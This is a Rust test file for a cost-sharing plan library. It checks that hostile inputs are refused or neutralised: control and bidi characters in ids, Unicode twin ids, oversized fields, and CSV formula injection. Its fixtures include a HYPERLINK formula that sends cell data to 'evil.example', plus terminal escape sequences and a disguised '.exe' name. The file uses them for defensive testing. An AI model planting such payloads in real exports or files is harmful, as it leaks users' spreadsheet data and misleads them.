//! Hostile input (issue 15): texts built to break an output, to cost
//! unbounded time, or to pass for another id. Each class is refused or
//! neutralised in core, so every runtime gets the same answer.

use andel::Plan;

/// A one-year plan of two members, `a` and `b`, with `extra` inserted
/// before the members and `cost` as its only cost line.
fn plan(extra: &str) -> String {
    format!(
        "format = 1\nname = \"Hostile\"\nunit = \"1\"\nfirst_year = 2025\nyears = 2\n{extra}\n\
         [[members]]\nid = \"a\"\nname = \"A\"\nmetrics.population = {{ \"2023-12-31\" = 3000, \"2024-12-31\" = 3000 }}\n\n\
         [[members]]\nid = \"b\"\nname = \"B\"\nmetrics.population = {{ \"2023-12-31\" = 2000, \"2024-12-31\" = 2000 }}\n\n\
         [[costs]]\nid = \"pm\"\nname = \"Pm\"\namount = \"1000\"\nfrom = 2025\nindexed = true\n"
    )
}

/// The code and path of the first problem of a plan text.
fn refused(text: &str) -> (String, String) {
    let err = Plan::from_toml(text)
        .and_then(|p| p.compute().map(|_| ()))
        .expect_err("the plan should be refused");
    let path = err.location().map(|l| l.path.clone()).unwrap_or_default();
    (err.code().to_string(), path)
}

fn pair(code: &str, path: &str) -> (String, String) {
    (code.to_string(), path.to_string())
}

#[test]
fn an_index_rate_at_or_below_minus_one_is_refused() {
    for rate in ["-1", "-1.5", "-100"] {
        let text = plan(&format!("[indexation]\nrate = \"{rate}\"\n"));
        assert_eq!(
            refused(&text),
            pair("invalid_plan", "indexation.rate"),
            "{rate}"
        );
        let text = plan(&format!(
            "[indexation]\nrates = {{ \"2026\" = \"{rate}\" }}\n"
        ));
        assert_eq!(
            refused(&text),
            pair("invalid_plan", "indexation.rates.2026"),
            "{rate}"
        );
    }
    let text = plan("[indexation]\nrate = \"-0.99\"\n");
    assert!(Plan::from_toml(&text).unwrap().compute().is_ok());
}

#[test]
fn a_rates_year_written_twice_or_oddly_is_refused() {
    let twice = plan("[indexation]\nrates = { \"+2026\" = \"0.01\", \"2026\" = \"0.02\" }\n");
    assert_eq!(
        refused(&twice),
        pair("duplicate_id", "indexation.rates.+2026")
    );
    let twice = plan("[indexation]\nrates = { \"02026\" = \"0.01\", \"2026\" = \"0.02\" }\n");
    assert_eq!(
        refused(&twice),
        pair("duplicate_id", "indexation.rates.02026")
    );
    // Alone, "+2026" was silently ignored: the rate lookup is by "2026".
    let odd = plan("[indexation]\nrates = { \"+2026\" = \"0.5\" }\n");
    assert_eq!(
        refused(&odd),
        pair("invalid_plan", "indexation.rates.+2026")
    );
    let fine = plan("[indexation]\nrates = { \"2026\" = \"0.5\" }\n");
    let result = Plan::from_toml(&fine).unwrap().compute().unwrap();
    assert_eq!(result.contribution("a", 2026).unwrap().to_string(), "900");
}

#[test]
fn a_floor_above_a_cap_is_refused_however_deep_the_limited_key() {
    let limited = "{ type = \"limited\", key = { type = \"per_capita\" }, max_amount = { a = \"400\" }, min_amount = { a = \"500\" } }";
    let blend =
        format!("{{ type = \"blend\", parts = [ {{ weight = \"1\", key = {limited} }} ] }}");
    for key in [limited.to_string(), blend] {
        let text = plan("").replace("from = 2025\n", &format!("from = 2025\nkey = {key}\n"));
        assert_eq!(refused(&text), pair("impossible_caps", "costs[0]"), "{key}");
    }
}

/// The plan with its two members' ids set to `first` and `second`.
fn with_ids(first: &str, second: &str) -> String {
    plan("")
        .replacen("id = \"a\"", &format!("id = \"{first}\""), 1)
        .replacen("id = \"b\"", &format!("id = \"{second}\""), 1)
}

#[test]
fn composed_and_decomposed_ids_are_one_id() {
    // Å as U+00C5, and as A + U+030A (combining ring above).
    let text = with_ids("\u{C5}", "A\u{30A}");
    assert_eq!(refused(&text), pair("duplicate_id", "members[1].id"));
    let json = Plan::from_toml(&with_ids("\u{C5}", "x")).unwrap().to_json();
    let json = json.replacen("\"x\"", "\"A\u{30A}\"", 1);
    let err = Plan::from_json(&json).unwrap_err();
    assert_eq!(
        (err.code(), err.location().unwrap().path.as_str()),
        ("duplicate_id", "members[1].id")
    );

    // A reference typed in the other form finds the member.
    let text = with_ids("\u{C5}", "b").replace(
        "from = 2025\n",
        "from = 2025\nparticipants = [\"A\u{30A}\"]\n",
    );
    let result = Plan::from_toml(&text).unwrap().compute().unwrap();
    assert_eq!(
        result.contribution("\u{C5}", 2025).unwrap().to_string(),
        "1000"
    );

    // Keys of a map in both forms are one key written twice.
    let shares = "key = { type = \"fixed_shares\", shares = { \"\u{C5}\" = \"0.1\", \"A\u{30A}\" = \"0.2\" }, rest = { type = \"equal\" } }";
    let text =
        with_ids("\u{C5}", "b").replace("from = 2025\n", &format!("from = 2025\n{shares}\n"));
    assert_eq!(refused(&text).0, "plan_syntax");

    // A plan built in code is compared in NFC too.
    let mut plan = Plan::reference();
    plan.members[0].id = "\u{C5}".into();
    plan.members[1].id = "A\u{30A}".into();
    let err = plan.validate().unwrap_err();
    assert_eq!(
        (err.code(), err.location().unwrap().path.as_str()),
        ("duplicate_id", "members[1].id")
    );
}

#[test]
fn ids_with_control_or_bidi_characters_are_refused() {
    for bad in [
        "a\\u0000",
        "a\\u001b[2J",
        "a\\u0007",
        "a\\u007f",
        "\\u202egnp.exe",
    ] {
        let text = with_ids(bad, "b");
        assert_eq!(refused(&text), pair("invalid_id", "members[0].id"), "{bad}");
        let line = plan("").replace("id = \"pm\"", &format!("id = \"{bad}\""));
        assert_eq!(refused(&line), pair("invalid_id", "costs[0].id"), "{bad}");
    }
    let funding = plan("").replace(
        "[[costs]]",
        "[[funding]]\nid = \"f\\u001b\"\nname = \"F\"\nyear = 2025\namount = \"10\"\n\n[[costs]]",
    );
    assert_eq!(refused(&funding), pair("invalid_id", "funding[0].id"));
    // A name may hold them (outputs escape or neutralise names); an id not.
    let name = plan("").replace("name = \"A\"", "name = \"A\\u001b[31m\"");
    assert!(Plan::from_toml(&name).unwrap().compute().is_ok());
}

#[test]
fn a_budget_compares_its_ids_in_nfc() {
    use andel::plan::BudgetParts;
    let parts =
        |first: &str, second: &str, shares: Option<Vec<(String, &'static str)>>| BudgetParts {
            year: 2025,
            currency: None,
            total: "100",
            unit: None,
            method: None,
            key: if shares.is_some() {
                "fixed_shares"
            } else {
                "per_capita"
            }
            .to_string(),
            fixed: None,
            shares,
            members: vec![
                (first.to_string(), "First".to_string(), Some("10")),
                (second.to_string(), "Second".to_string(), Some("10")),
            ],
        };
    let read =
        |text: &&str, _, path: &str| andel::parse_decimal(text, path).map_err(|e| e.at(path));
    let computed = |p: BudgetParts<&str>| p.read(read).unwrap().and_then(|b| b.compute());
    let err = computed(parts("\u{C5}", "A\u{30A}", None)).unwrap_err();
    assert_eq!(
        (err.code(), err.location().unwrap().path.as_str()),
        ("duplicate_id", "members[1].id")
    );
    let err = computed(parts("a\u{1b}", "b", None)).unwrap_err();
    assert_eq!(
        (err.code(), err.location().unwrap().path.as_str()),
        ("invalid_id", "members[0].id")
    );
    // A share named in the other form is the member's share.
    let shares = vec![("A\u{30A}".to_string(), "0.3")];
    let result = computed(parts("\u{C5}", "b", Some(shares))).unwrap();
    assert_eq!(
        result.contribution("\u{C5}", 2025).unwrap().to_string(),
        "30"
    );
    let twice = vec![
        ("A\u{30A}".to_string(), "0.3"),
        ("\u{C5}".to_string(), "0.2"),
    ];
    let err = computed(parts("\u{C5}", "b", Some(twice))).unwrap_err();
    assert_eq!(err.code(), "duplicate_id");
}

/// The records of a CSV text, each a list of its cells unquoted (RFC 4180:
/// a record ends at a line break outside quotes).
fn records(csv: &str) -> Vec<Vec<String>> {
    let (mut out, mut record, mut cell, mut quoted) =
        (Vec::new(), Vec::new(), String::new(), false);
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => record.push(std::mem::take(&mut cell)),
            ('\n' | '\r', false) => {
                record.push(std::mem::take(&mut cell));
                out.push(std::mem::take(&mut record));
            }
            (c, _) => cell.push(c),
        }
    }
    assert!(!quoted && cell.is_empty(), "the CSV ends inside a cell");
    out
}

/// Every cell of every record starts with no character a spreadsheet runs
/// as a formula, every record has as many cells as the header, and `name`
/// is found, neutralised, in the column called `column`.
fn assert_safe(csv: &str, column: &str, name: &str) {
    let rows = records(csv);
    let width = rows[0].len();
    let at = rows[0].iter().position(|h| h == column).unwrap();
    assert!(rows.iter().all(|r| r.len() == width), "{csv}");
    assert!(
        rows[1..].iter().any(|r| r[at] == format!("'{name}")),
        "{csv}"
    );
    for cell in rows.iter().flatten() {
        let numeric = cell.parse::<andel::Decimal>().is_ok();
        assert!(
            numeric || !cell.starts_with(['=', '+', '@', '\t', '\r']),
            "{cell:?} in {csv}"
        );
        assert!(numeric || !cell.starts_with('-'), "{cell:?} in {csv}");
    }
}

const HOSTILE_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Båstad\")\r";

#[test]
fn every_csv_neutralises_formulas_and_quotes_a_bare_cr() {
    let cycle = include_str!("../../examples/tillvaxtmotor-cycle.toml")
        .replacen(
            "name = \"Båstad\"",
            "name = \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Båstad\\\")\\r\"",
            1,
        )
        .replace("\"falkenberg\"", "\"-falkenberg\"")
        .replacen("name = \"Falkenberg\"", "name = \"@SUM(A1:A9)\"", 1);
    let plan = Plan::from_toml(&cycle).unwrap();
    let result = plan.compute().unwrap();
    assert_safe(&result.to_csv(), "name", HOSTILE_NAME);
    assert_safe(&result.to_csv(), "member", "-falkenberg");
    assert_safe(&result.to_csv(), "name", "@SUM(A1:A9)");
    assert_safe(&result.year_csv(2022), "name", HOSTILE_NAME);
    assert_eq!(
        records(&result.year_csv(2022)).len(),
        1 + result.years[1].members.len()
    );
    let settlement = plan.settle(&result, 2021).unwrap();
    assert_safe(&settlement.to_csv(), "name", HOSTILE_NAME);
    let invoices = plan.invoices(&result, 2022, Some(&settlement)).unwrap();
    assert_safe(&invoices.to_csv(), "name", HOSTILE_NAME);
    assert_safe(&invoices.to_csv(), "member", "-falkenberg");
    let diff = andel::cycle::diff(&result, &result).unwrap();
    assert_safe(&diff.to_csv(), "name", HOSTILE_NAME);
    // Numbers are not text: a negative settlement keeps its minus.
    assert!(
        settlement
            .members
            .iter()
            .any(|m| m.settlement < andel::Decimal::ZERO)
    );
    assert!(
        records(&settlement.to_csv())[1..]
            .iter()
            .any(|r| r[5].starts_with('-'))
    );
}

/// The reference cycle plan with `milestones` in place of its own.
fn cycle_with_milestones(milestones: &str) -> String {
    let text = include_str!("../../examples/tillvaxtmotor-cycle.toml");
    let start = text.find("[[milestones]]").unwrap();
    let end = text.find("[instalments]").unwrap();
    format!("{}{milestones}\n{}", &text[..start], &text[end..])
}

/// `text` as a TOML basic string, every control character as `\uXXXX`.
fn toml_string(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' | '\\' => out.extend(['\\', c]),
            c if c.is_control() => out.push_str(&format!("\\u{:04X}", c as u32)),
            c => out.push(c),
        }
    }
    out + "\""
}

fn milestone(id: &str, name: &str, due: &str) -> String {
    let [id, name, due] = [id, name, due].map(toml_string);
    format!(
        "[[milestones]]\nid = {id}\nname = {name}\ndate = \"10-31\"\ndue = {due}\nfigures = \"contributions\"\n\n"
    )
}

#[test]
fn the_calendar_keeps_control_characters_out_and_uids_apart() {
    let hostile = "a\u{0}b\u{b}c\u{c}d\u{1b}[2Je\u{7f}f\rg";
    let milestones = [
        milestone("decision", hostile, hostile),
        milestone("Decision", "Upper", "x"),
        milestone("över", "Swedish", "x"),
        milestone("ovar", "Ascii", "x"),
        milestone("日本", "Japanese", "x"),
    ]
    .concat();
    let text = cycle_with_milestones(&milestones);
    let plan = Plan::from_toml(&text).unwrap();
    let ics = plan.calendar(&plan.compute().unwrap()).unwrap().to_ics();
    // No control character but the CRLF that ends each line.
    let body = ics.replace("\r\n", "");
    assert!(!body.chars().any(char::is_control), "{ics}");
    assert!(ics.split("\r\n").all(|l| l.len() <= 75));
    let unfolded = ics.replace("\r\n ", "");
    let uids: Vec<&str> = unfolded.lines().filter(|l| l.starts_with("UID:")).collect();
    let unique: std::collections::HashSet<&&str> = uids.iter().collect();
    assert_eq!(uids.len(), 5 * 5, "five milestones in five years");
    assert_eq!(unique.len(), uids.len(), "{uids:#?}");
    // Stable: the same plan gives the same file.
    assert_eq!(
        plan.calendar(&plan.compute().unwrap()).unwrap().to_ics(),
        ics
    );
}

#[test]
fn a_milestone_text_longer_than_the_bound_is_refused() {
    let long = "x".repeat(andel::plan::limits::LONG_TEXT + 1);
    let text = cycle_with_milestones(&milestone("m", "M", &long));
    assert_eq!(refused(&text), pair("invalid_plan", "milestones[0].due"));
    let who = milestone("m", "M", "x")
        .replace("figures", &format!("who = {}\nfigures", toml_string(&long)));
    assert_eq!(
        refused(&cycle_with_milestones(&who)),
        pair("invalid_plan", "milestones[0].who")
    );
    let at_bound = "x".repeat(andel::plan::limits::LONG_TEXT);
    assert!(Plan::from_toml(&cycle_with_milestones(&milestone("m", "M", &at_bound))).is_ok());
    // A milestone id is an id: control characters refused, NFC twins one id.
    let text = cycle_with_milestones(&milestone("m\u{1b}", "M", "x"));
    assert_eq!(refused(&text), pair("invalid_id", "milestones[0].id"));
    let twins = [
        milestone("\u{C5}r", "M", "x"),
        milestone("A\u{30A}r", "N", "x"),
    ]
    .concat();
    assert_eq!(
        refused(&cycle_with_milestones(&twins)),
        pair("duplicate_id", "milestones[1].id")
    );
}

/// A plan of `members` members over `years` years with `milestones`
/// milestones, `with_figures` of them listing contributions.
fn calendar_plan(members: usize, years: u32, milestones: usize, with_figures: usize) -> String {
    let mut text = format!(
        "format = 1\nname = \"Calendar\"\nfirst_year = 2025\nyears = {years}\n\
         [population]\ncarry_forward = true\n\n\
         [[costs]]\nid = \"pm\"\nname = \"Pm\"\namount = \"1000000\"\nfrom = 2025\n\n"
    );
    for i in 0..members {
        text.push_str(&format!(
            "[[members]]\nid = \"m{i}\"\nname = \"M{i}\"\nmetrics.population = {{ \"2023-12-31\" = {} }}\n\n",
            1000 + i
        ));
    }
    for i in 0..milestones {
        let figures = if i < with_figures {
            "contributions"
        } else {
            "none"
        };
        text.push_str(&format!(
            "[[milestones]]\nid = \"s{i}\"\nname = \"S\"\ndate = \"10-31\"\ndue = \"d\"\nfigures = \"{figures}\"\n\n"
        ));
    }
    text
}

#[test]
fn a_calendar_has_at_most_100_milestones() {
    use andel::plan::limits::MILESTONES;
    assert_eq!(MILESTONES, 100);
    let at_bound = Plan::from_toml(&calendar_plan(2, 100, MILESTONES, 1)).unwrap();
    let calendar = at_bound.calendar(&at_bound.compute().unwrap()).unwrap();
    assert_eq!(calendar.entries.len(), 100 * 100);
    assert_eq!(
        refused(&calendar_plan(2, 1, MILESTONES + 1, 0)),
        pair("invalid_plan", "milestones")
    );
    // A plan built in code, never validated, is bounded by the calendar
    // itself.
    let mut grown = Plan::from_toml(&calendar_plan(2, 1, 1, 0)).unwrap();
    let result = grown.compute().unwrap();
    let one = grown.milestones[0].clone();
    grown.milestones = (0..=MILESTONES)
        .map(|i| andel::cycle::Milestone {
            id: format!("s{i}"),
            ..one.clone()
        })
        .collect();
    let err = grown.calendar(&result).unwrap_err();
    assert_eq!(err.code(), "invalid_plan");
    assert_eq!(err.location().unwrap().path, "milestones");
    assert!(err.to_string().contains("at most 100 milestones"), "{err}");
}

#[test]
fn a_calendar_lists_at_most_the_figures_a_plan_computes() {
    use andel::plan::limits::FIGURES;
    // 100 milestones with figures × 100 years × 3 000 members = 30 000 000.
    assert_eq!(FIGURES, 100 * 100 * 3000);
    assert!(Plan::from_toml(&calendar_plan(3000, 100, 100, 100)).is_ok());
    let past = Plan::from_toml(&calendar_plan(3001, 100, 100, 100)).unwrap_err();
    assert_eq!(past.code(), "invalid_plan");
    assert_eq!(past.location().unwrap().path, "milestones");
    assert!(past.to_string().contains("30010000 figures"), "{past}");
    // Milestones without figures do not count.
    assert!(Plan::from_toml(&calendar_plan(3001, 100, 100, 99)).is_ok());
}

#[test]
fn a_currency_is_short_and_has_no_control_characters() {
    use andel::plan::limits::CURRENCY;
    let with = |currency: &str| plan(&format!("currency = {}\n", toml_string(currency)));
    let at_bound = "k".repeat(CURRENCY);
    let plan_at_bound = Plan::from_toml(&with(&at_bound)).unwrap();
    assert_eq!(plan_at_bound.compute().unwrap().currency, at_bound);
    let past = "k".repeat(CURRENCY + 1);
    assert_eq!(refused(&with(&past)), pair("invalid_plan", "currency"));
    for hostile in ["kr\u{1b}[2J", "kr\u{0}", "kr\r", "\u{202e}kr"] {
        assert_eq!(refused(&with(hostile)), pair("invalid_plan", "currency"));
    }
    // Multibyte: bytes, not characters, are counted.
    assert_eq!(
        refused(&with(&"å".repeat(CURRENCY / 2 + 1))),
        pair("invalid_plan", "currency")
    );
}

#[test]
fn a_budget_currency_is_bounded_as_a_plan_currency() {
    let mut budget = andel::plan::Budget::new(2025, "100".parse().unwrap());
    budget.key = andel::plan::BudgetKey::Equal;
    budget.members = ["a", "b"]
        .map(|id| andel::plan::BudgetMember {
            id: id.into(),
            name: id.to_uppercase(),
            population: Some(1.into()),
        })
        .to_vec();
    budget.currency = "k".repeat(andel::plan::limits::CURRENCY);
    assert!(budget.compute().is_ok());
    for currency in ["SEKSEKSEKSEKSEKSE", "kr\u{1b}[2J"] {
        budget.currency = currency.into();
        let err = budget.compute().unwrap_err();
        assert_eq!(err.code(), "invalid_plan", "{err}");
        assert_eq!(err.location().unwrap().path, "currency");
    }
}
